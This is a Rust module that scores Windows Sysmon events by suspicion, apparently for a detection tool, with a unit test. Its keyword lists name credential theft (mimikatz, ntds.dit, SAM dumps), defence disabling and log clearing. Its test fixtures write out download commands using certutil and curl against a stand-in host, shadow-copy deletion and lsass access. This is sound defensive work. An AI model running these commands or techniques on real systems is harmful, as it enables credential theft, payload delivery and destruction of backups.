//! How much weighs what Sysmon tells of the programs of a Windows machine. All of it is telemetry; what attackers do with
//! the programs that every machine has ([LOLBAS](https://lolbas-project.github.io)) is not.

use std::net::IpAddr;

use event::{Event, Value};

use super::words::last;

/// Programs that run what others wrote, beside those of scripts: libraries, commands, what they fetched.
const OTHER_HOSTS: &[&str] = &[
    "msbuild.exe",
    "installutil.exe",
    "verclsid.exe",
    "wmic.exe",
    "wmiprvse.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
];
/// Programs of the machine's keepers, of which attackers make use too.
const TOOLS: &[&str] = &[
    "reg.exe",
    "net.exe",
    "net1.exe",
    "sc.exe",
    "schtasks.exe",
    "whoami.exe",
    "nltest.exe",
    "tasklist.exe",
    "netsh.exe",
    "vssadmin.exe",
    "wevtutil.exe",
    "ntdsutil.exe",
    "bcdedit.exe",
    "wbadmin.exe",
];
const OFFICE: &[&str] =
    &["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "msaccess.exe", "onenote.exe"];
/// Programs that run scripts, and have no errand of their own.
const SCRIPTED: &[&str] = &[
    "powershell.exe",
    "pwsh.exe",
    "cmd.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "regsvr32.exe",
    "rundll32.exe",
];
/// Programs that Windows gives every right without asking, so that what starts them may be after these rights.
const ELEVATED: &[&str] =
    &["fodhelper.exe", "computerdefaults.exe", "eventvwr.exe", "wsreset.exe", "slui.exe"];
/// Programs of the system whose names others take.
const SYSTEM: &[&str] = &[
    "svchost.exe",
    "lsass.exe",
    "services.exe",
    "csrss.exe",
    "winlogon.exe",
    "wininit.exe",
    "smss.exe",
    "spoolsv.exe",
    "msmpeng.exe",
];
/// Where these are.
const SYSTEM_PLACES: &[&str] = &["\\windows\\system32\\", "\\windows\\syswow64\\", "\\windows defender\\"];
/// Events that tell of no program that begins something: files dated anew, connections, ends, keys, names asked for.
const EVERYDAY: &[&str] = &["2", "3", "4", "5", "12", "14", "16", "22", "23", "26"];
/// Endings of scripts.
const SCRIPTS: &[&str] = &[".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".hta", ".wsf"];
/// Endings of files that run.
const RUNNABLE: &[&str] = &[".exe", ".dll", ".scr", ".com", ".bat", ".ps1", ".vbs", ".js", ".hta", ".lnk"];
/// Places that everybody may write to, and where nothing is installed.
const OPEN_PLACES: &[&str] = &[
    "\\users\\public\\",
    "\\appdata\\local\\",
    "\\temp\\",
    "\\downloads\\",
    "\\start menu\\programs\\startup\\",
];
/// Words of commands that take defences away, hide, fetch or steal.
const COMMANDS: &[&str] = &[
    "set-mppreference",
    "-encodedcommand",
    " -enc ",
    " -e jab",
    "-window hidden",
    "-windowstyle hidden",
    "downloadstring",
    "downloadfile",
    "invoke-expression",
    "frombase64string",
    "-urlcache",
    "/transfer ",
    "vbscript:",
    "javascript:",
    "harddiskvolumeshadowcopy",
    "delete shadows",
    "\\config\\sam",
    "sekurlsa",
    "mimikatz",
    "minidump",
    "ntds.dit",
    "save hklm\\sam",
    "save hklm\\security",
    "add-mppreference -exclusion",
    "net.webclient",
    "shadowcopy delete",
    "delete catalog",
    "recoveryenabled no",
    "state off",
    "wevtutil cl ",
    "clear-eventlog",
    " use \\",
];

/// What an event of Sysmon says, in lower case, as far as it weighs.
#[derive(Debug, Default)]
struct Said {
    id: String,
    image: String,
    parent: String,
    command: String,
    target: String,
    registry: String,
    details: String,
    /// The address and port at either end of a connection.
    ends: [(String, String); 2],
}

/// The weight of an event of Sysmon; None for any other.
pub(crate) fn weight(event: &Event<'_>) -> Option<u8> {
    let is_sysmon = event.fields.iter().any(|each| {
        let name = last(&each.path);
        (name.eq_ignore_ascii_case("channel") || name.eq_ignore_ascii_case("provider"))
            && each.value.as_str().is_some_and(|value| value.starts_with("Microsoft-Windows-Sysmon"))
    });
    is_sysmon.then(|| Said::of(event).weight())
}

impl Said {
    fn of(event: &Event<'_>) -> Self {
        let mut said = Self::default();
        for each in &event.fields {
            let Value::String(text) = &each.value else { continue };
            let text = || text.to_ascii_lowercase().replace("\\\\", "\\");
            match last(&each.path).to_ascii_lowercase().as_str() {
                "image" | "sourceimage" => said.image = text(),
                "parentimage" => said.parent = text(),
                "commandline" => said.command = text(),
                "targetfilename" | "targetimage" | "imageloaded" => said.target = text(),
                "targetobject" => said.registry = text(),
                "details" => said.details = text(),
                "eventid" | "event_id" => said.id = text(),
                "sourceip" => said.ends[0].0 = text(),
                "sourceport" => said.ends[0].1 = text(),
                "destinationip" => said.ends[1].0 = text(),
                "destinationport" => said.ends[1].1 = text(),
                _ => {}
            }
        }
        said
    }

    fn weight(&self) -> u8 {
        if self.is_grave() {
            12
        } else if is_one(&self.image, SCRIPTED) && self.is_runnable() && self.target.contains("\\windows\\") {
            8
        } else if EVERYDAY.contains(&self.id.as_str()) {
            2
        } else if [&self.image, &self.parent].iter().any(|path| is_host(path) || is_one(path, TOOLS))
            || self.image.contains("\\users\\")
        {
            3
        } else {
            2
        }
    }

    fn is_runnable(&self) -> bool {
        RUNNABLE.iter().any(|end| self.target.ends_with(end))
    }

    fn is_grave(&self) -> bool {
        let is_host = is_host(&self.image);
        let is_of_office = is_one(&self.parent, OFFICE);
        let is_command = (is_host || is_one(&self.image, TOOLS))
            && COMMANDS.iter().any(|word| self.command.contains(word));
        let is_dropped = is_host && self.is_runnable() && is_in_open(&self.target);
        (is_host && is_of_office)
            || is_command
            || is_dropped
            || self.is_fetched()
            || self.is_stolen()
            || self.is_kept()
            || self.is_masked()
            || self.is_loaded()
            || self.is_tunnel()
            || (is_one(&self.image, ELEVATED) && is_one(&self.parent, SCRIPTED))
    }

    /// What runs, fetched from elsewhere by a command.
    fn is_fetched(&self) -> bool {
        let mut words = self.command.split_ascii_whitespace().map(|word| word.trim_matches('"'));
        name(&self.image) == "curl.exe"
            && words.any(|word| matches!(word, "-o" | "--output"))
            && words.next().is_some_and(|file| RUNNABLE.iter().any(|end| file.ends_with(end)))
    }

    /// The memory of who signed in, read by what is no program of the system, or by one that runs what others wrote.
    fn is_stolen(&self) -> bool {
        ["lsass.exe", "mstsc.exe"].contains(&name(&self.target))
            && (!self.image.contains("\\system32\\") || is_one(&self.image, SCRIPTED))
    }

    /// A script that runs at every sign-in, or a class of programs that leads to a file in a place open to everybody.
    fn is_kept(&self) -> bool {
        let is_run = self.registry.contains("\\currentversion\\run")
            && is_one(&self.image, &["reg.exe", "powershell.exe"]);
        let is_class = self.registry.contains("\\clsid\\")
            && (self.registry.contains("server32") || self.registry.ends_with("\\treatas"));
        let file = self.details.trim_matches('"');
        (is_run && SCRIPTS.iter().any(|end| file.ends_with(end))) || (is_class && is_in_open(file))
    }

    /// The name of a program of the system at another place.
    fn is_masked(&self) -> bool {
        self.id == "1"
            && is_one(&self.image, SYSTEM)
            && !SYSTEM_PLACES.iter().any(|place| self.image.contains(place))
    }

    /// A library where nobody needs it: PowerShell's own in a program from anywhere, the planner of tasks in a host of
    /// scripts, a driver that the spooler of printers was handed.
    fn is_loaded(&self) -> bool {
        let library = name(&self.target);
        let is_shell = library.starts_with("system.management.automation.") && library.ends_with(".dll");
        let is_of_system = is_host(&self.image)
            || [SYSTEM_PLACES, &["\\program files", "\\winsxs\\", "\\microsoft.net\\"]]
                .iter()
                .any(|places| places.iter().any(|place| self.image.contains(place)));
        let is_planner =
            library == "taskschd.dll" && (is_one(&self.image, SCRIPTED) || is_one(&self.image, OFFICE));
        let is_driver = self.id == "11"
            && name(&self.image) == "spoolsv.exe"
            && self.target.contains("\\spool\\drivers\\")
            && library.ends_with(".dll");
        (is_shell && !is_of_system) || is_planner || is_driver
    }

    /// A remote desktop that is reached from the machine itself: somebody forwards it.
    fn is_tunnel(&self) -> bool {
        let is_own = |address: &str| address.parse::<IpAddr>().is_ok_and(|address| address.is_loopback());
        self.ends.iter().any(|(_, port)| port == "3389")
            && self.ends.iter().all(|(address, _)| is_own(address))
    }
}

fn is_in_open(path: &str) -> bool {
    OPEN_PLACES.iter().any(|place| path.contains(place))
}

fn name(path: &str) -> &str {
    path.rsplit('\\').next().unwrap_or(path)
}

/// Whether a program runs what others wrote.
fn is_host(path: &str) -> bool {
    is_one(path, SCRIPTED) || is_one(path, OTHER_HOSTS)
}

fn is_one(path: &str, names: &[&str]) -> bool {
    names.contains(&name(path))
}

#[cfg(test)]
mod tests {
    use super::*;
    use event::Timestamp;

    #[test]
    fn what_programs_do_weighs_by_whose_way_it_is() {
        for (fields, expected) in [
            (&[("image", r"C:\Windows\explorer.exe")] as &[(&str, &str)], 2),
            (&[("image", r"C:\Windows\System32\cmd.exe"), ("parentImage", r"C:\Windows\explorer.exe")], 3),
            (
                &[("image", r"C:\Windows\System32\cmd.exe"), ("parentImage", r"C:\Program Files\EXCEL.EXE")],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\net.exe"),
                    ("commandLine", r"net use \\192.0.2.4\c$ /user:ann"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\certutil.exe"),
                    ("commandLine", "certutil -urlcache -f https://files.example.org/a.dll a.dll"),
                ],
                12,
            ),
            (
                &[("image", r"C:\Windows\System32\mshta.exe"), ("targetFilename", r"C:\Users\Public\a.exe")],
                12,
            ),
            (
                &[
                    ("image", r"C:\Program Files\Editor\editor.exe"),
                    ("targetFilename", r"C:\Users\Public\a.exe"),
                ],
                2,
            ),
            (
                &[
                    ("sourceImage", r"C:\Users\ann\Downloads\a.exe"),
                    ("targetImage", r"C:\Windows\System32\lsass.exe"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\vssadmin.exe"),
                    ("commandLine", "vssadmin delete shadows /all"),
                ],
                12,
            ),
            (&[("image", r"C:\Windows\System32\vssadmin.exe"), ("commandLine", "vssadmin list writers")], 3),
            (&[("eventID", "5"), ("image", r"C:\Users\ann\tool.exe")], 2),
            (&[("eventID", "1"), ("image", r"C:\Users\ann\tool.exe")], 3),
            (&[("eventID", "1"), ("image", r"C:\Users\ann\svchost.exe")], 12),
            (&[("eventID", "1"), ("image", r"C:\Windows\System32\svchost.exe")], 2),
            (
                &[
                    ("image", r"C:\Windows\System32\fodhelper.exe"),
                    ("parentImage", r"C:\Windows\System32\cmd.exe"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\curl.exe"),
                    ("commandLine", "curl https://files.example.org/7 -o a.dll"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\curl.exe"),
                    ("commandLine", "curl https://files.example.org/7 -o a.txt"),
                ],
                3,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\cmd.exe"),
                    ("targetFilename", r"C:\Windows\System32\x.exe"),
                ],
                8,
            ),
            (
                &[
                    ("targetObject", r"HKCU\Software\Classes\CLSID\{7}\InprocServer32"),
                    ("details", r"C:\Users\ann\AppData\Local\x.dll"),
                ],
                12,
            ),
            (
                &[
                    ("targetObject", r"HKCU\Software\Classes\CLSID\{7}\InprocServer32"),
                    ("details", r"C:\Program Files\Editor\x.dll"),
                ],
                2,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\reg.exe"),
                    ("targetObject", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x"),
                    ("details", r"C:\ProgramData\x.vbs"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\reg.exe"),
                    ("targetObject", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x"),
                    ("details", r"C:\Program Files\Editor\x.exe"),
                ],
                3,
            ),
            (
                &[
                    ("image", r"C:\Games\game.exe"),
                    ("imageLoaded", r"C:\Windows\assembly\System.Management.Automation.ni.dll"),
                ],
                12,
            ),
            (
                &[
                    ("image", r"C:\Program Files\Console\console.exe"),
                    ("imageLoaded", r"C:\Windows\assembly\System.Management.Automation.ni.dll"),
                ],
                2,
            ),
            (
                &[
                    ("image", r"C:\Windows\System32\mshta.exe"),
                    ("imageLoaded", r"C:\Windows\System32\taskschd.dll"),
                ],
                12,
            ),
            (
                &[
                    ("eventID", "11"),
                    ("image", r"C:\Windows\System32\spoolsv.exe"),
                    ("targetFilename", r"C:\Windows\System32\spool\drivers\x64\3\x.dll"),
                ],
                12,
            ),
            (
                &[
                    ("sourceImage", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
                    ("targetImage", r"C:\Windows\System32\lsass.exe"),
                ],
                12,
            ),
            (
                &[
                    ("eventID", "3"),
                    ("sourceIp", "::1"),
                    ("destinationIp", "::1"),
                    ("destinationPort", "3389"),
                ],
                12,
            ),
            (
                &[
                    ("eventID", "3"),
                    ("sourceIp", "192.0.2.7"),
                    ("destinationIp", "192.0.2.8"),
                    ("destinationPort", "3389"),
                ],
                2,
            ),
        ] {
            let mut event = Event::new("", Timestamp::MIN);
            event.set("labels.win.system.channel", "Microsoft-Windows-Sysmon/Operational");
            for (name, value) in fields {
                event.set(format!("labels.win.eventdata.{name}"), *value);
            }
            assert_eq!(weight(&event), Some(expected), "{fields:?}");
        }
        assert_eq!(weight(&Event::new("", Timestamp::MIN)), None);
    }
}
